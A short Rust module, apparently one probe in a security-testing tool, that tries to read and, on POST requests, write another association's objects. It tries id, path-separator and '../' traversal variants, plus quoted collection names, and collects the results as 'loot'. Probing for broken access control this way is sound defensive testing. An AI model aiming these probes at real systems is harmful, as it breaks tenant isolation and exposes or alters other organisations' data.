//! Reaches for the object `?id=` of another association, by its id and by every path that might lead there.

use veillee_sdk::{Call, Error, Response};

use super::guessed_id;
use crate::loot::Loot;

pub fn attack(call: &mut Call<'_>) -> Result<Response, Error> {
    let id = call.query_field("id").unwrap_or_default();
    let association = call.query_field("association").unwrap_or("other");
    let mut loot = Loot::default();
    for path in [
        id.to_owned(),
        format!("{association}/{id}"),
        format!("{association}:{id}"),
        format!("{association}.{id}"),
        format!("//{association}/{id}"),
        format!("../{association}/{id}"),
    ] {
        guessed_id::read(call, &path, &mut loot);
        if call.request().method == "POST" {
            guessed_id::write(call, &path, &mut loot);
        }
    }
    for collection in [format!("{association}.note"), format!("{association}/note"), format!("\"{association}\".note")]
    {
        loot.rows(&collection, call.query(&collection).select(["text"]).run(None, 10).map(|page| page.rows));
    }
    Ok(loot.page("other association"))
}
